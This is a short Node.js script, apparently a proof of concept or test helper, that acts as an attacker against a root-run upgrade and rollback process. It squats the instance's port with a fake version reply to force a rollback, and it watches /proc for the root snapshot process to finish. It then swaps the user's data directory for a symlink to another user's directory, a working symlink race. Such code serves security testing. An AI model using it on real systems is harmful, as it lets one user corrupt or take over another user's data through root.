// As the attacker, forcing a rollback of their own instance: as soon as root
// stops it, hold its <port> (answering <version>, so the candidate never seems
// to come up); once root's backup of the stopped instance has run (its
// snapshot child is a process of the attacker's own, so they can watch for
// it), replace <userdata> with a symbolic link to <target> (another user's
// directory), hoping that root's rollback restores into it.
const fs = require("node:fs");
const http = require("node:http");
const [port, version, userdata, target] = process.argv.slice(2);

const snapshotRunning = () =>
  fs.readdirSync("/proc").some((pid) => {
    try {
      return /^\d+$/.test(pid) && fs.readFileSync(`/proc/${pid}/cmdline`, "latin1").includes("snapshot-db");
    } catch {
      return false;
    }
  });

/** Polls in a row without a snapshot before it counts as done: while setpriv execs the snapshot, its cmdline reads empty. */
const QUIET_POLLS = 25;

function swapAfterBackup() {
  let seen = false;
  let quiet = 0;
  const timer = setInterval(() => {
    const running = snapshotRunning();
    if (running) seen = true;
    quiet = running ? 0 : quiet + 1;
    if (seen && quiet >= QUIET_POLLS) {
      clearInterval(timer);
      fs.renameSync(userdata, `${userdata}.real`);
      fs.symlinkSync(target, userdata);
      console.log("swapped");
    }
  }, 2);
}

function tryBind() {
  const server = http.createServer((_req, res) => {
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ serverVersion: version }));
  });
  server.once("error", () => setTimeout(tryBind, 5));
  server.listen(Number(port), "127.0.0.1", () => {
    console.log("squatting");
    swapAfterBackup();
  });
}
console.log("waiting");
tryBind();
